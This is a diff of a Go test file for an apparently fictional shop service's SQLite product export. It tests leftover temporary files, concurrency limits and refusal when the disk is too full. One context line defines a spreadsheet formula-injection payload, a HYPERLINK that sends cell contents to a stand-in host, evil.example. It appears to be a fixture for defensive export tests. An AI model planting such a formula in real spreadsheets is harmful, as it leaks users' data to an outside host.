@@ -16,6 +16,7 @@ import (
 	_ "modernc.org/sqlite"
 
 	"stockroom/catalog"
+	"stockroom/datadir"
 )
 
 const formula = `=HYPERLINK("http://evil.example/?"&A1,"click")`
@@ -284,10 +285,6 @@ func fillProducts(t testing.TB, path string, n, bodyBytes int) {
 func TestTheSQLiteExportIsAWholeDatabaseAndLeavesNothingBehind(t *testing.T) {
 	r := newRig(t, nil)
 	r.product(1, "Shirt", "")
-	left := filepath.Join(r.opt.DataDir, exportPrefix+"123")
-	if err := os.Mkdir(left, 0o700); err != nil {
-		t.Fatal(err)
-	}
 	body := r.admin(200, "GET", "/api/v1/products-export?format=sqlite", "")
 	path := filepath.Join(t.TempDir(), "copy.db")
 	if err := os.WriteFile(path, []byte(body), 0o600); err != nil {
@@ -303,13 +300,81 @@ func TestTheSQLiteExportIsAWholeDatabaseAndLeavesNothingBehind(t *testing.T) {
 	if err := db.QueryRow(`SELECT (SELECT integrity_check FROM pragma_integrity_check), (SELECT count(*) FROM products), (SELECT count(*) FROM shops)`).Scan(&sound, &products, &secrets); err != nil || sound != "ok" || products != 1 {
 		t.Errorf("%s, %d products, %v", sound, products, err)
 	}
-	if names, err := filepath.Glob(filepath.Join(r.opt.DataDir, exportPrefix+"*")); err != nil || len(names) != 0 {
+	if names, err := filepath.Glob(filepath.Join(r.opt.DataDir, ".export-*")); err != nil || len(names) != 0 {
 		t.Errorf("left behind: %v %v", names, err)
 	}
 	r.admin(400, "GET", "/api/v1/products-export?format=sqlite&shop="+testShop, "")
-	r.export <- struct{}{}
-	r.admin(503, "GET", "/api/v1/products-export?format=sqlite", "")
-	<-r.export
+	for range copiesAtOnce {
+		r.copies <- struct{}{}
+	}
+	if w := serve(r.Admin(), request("GET", "/api/v1/products-export?format=sqlite", "")); w.Code != 503 || w.Header().Get("Retry-After") == "" || !strings.Contains(w.Body.String(), "4 sqlite exports") {
+		t.Errorf("a fifth copy: %d %s", w.Code, w.Body)
+	}
+}
+
+func TestAnExportThatNobodyReadsKeepsNoOtherWaitingAndNoFileInTheDataDir(t *testing.T) {
+	r := newRig(t, nil)
+	r.product(1, "Shirt", "")
+	const target = "/api/v1/products-export?format=sqlite"
+	stuck, ended := make(chan struct{}), make(chan struct{})
+	for range 2 * copiesAtOnce {
+		begun := make(chan struct{})
+		w := &atFirst{h: http.Header{}, call: func() { close(begun); <-stuck }}
+		go func() {
+			r.Admin().ServeHTTP(w, request("GET", target, ""))
+			ended <- struct{}{}
+		}()
+		select {
+		case <-begun:
+		case <-ended:
+			t.Fatal("an export ended before its first byte")
+		}
+	}
+	if names, err := filepath.Glob(filepath.Join(r.opt.DataDir, ".export-*")); runtime.GOOS != "windows" && (err != nil || len(names) != 0) {
+		t.Errorf("while they are sent: %v %v", names, err)
+	}
+	r.admin(200, "GET", target, "")
+	close(stuck)
+	for range 2 * copiesAtOnce {
+		<-ended
+	}
+}
+
+func TestACopyThatWouldFillTheDiskIsRefusedBeforeItBegins(t *testing.T) {
+	var free int64
+	var broken error
+	r := newRig(t, func(o *Options) { o.DiskFree = func() (int64, error) { return free, broken } })
+	r.product(1, "Shirt", "")
+	const target = "/api/v1/products-export?format=sqlite"
+	size := r.store.Size()
+	for _, tt := range []struct {
+		name   string
+		free   int64
+		others int
+		err    error
+		want   int
+	}{
+		{"just enough", datadir.SpaceNeeded + size, 0, nil, 200},
+		{"a byte too few", datadir.SpaceNeeded + size - 1, 0, nil, 507},
+		{"enough for one, and another is copied", datadir.SpaceNeeded + 2*size - 1, 1, nil, 507},
+		{"enough for both", datadir.SpaceNeeded + 2*size, 1, nil, 200},
+		{"a disk that does not tell", 0, 0, os.ErrInvalid, 200},
+	} {
+		free, broken = tt.free, tt.err
+		for range tt.others {
+			r.copies <- struct{}{}
+		}
+		w := serve(r.Admin(), request("GET", target, ""))
+		if w.Code != tt.want || tt.want == 507 && !strings.Contains(w.Body.String(), "16 MB have to stay free for deliveries") {
+			t.Errorf("%s: %d %.300s", tt.name, w.Code, w.Body)
+		}
+		for range tt.others {
+			<-r.copies
+		}
+	}
+	if names, err := filepath.Glob(filepath.Join(r.opt.DataDir, ".export-*")); err != nil || len(names) != 0 {
+		t.Errorf("left behind: %v %v", names, err)
+	}
 }
 
 func TestAnExportOfAFailingCatalogueIsAnErrorNotAnEmptyFile(t *testing.T) {
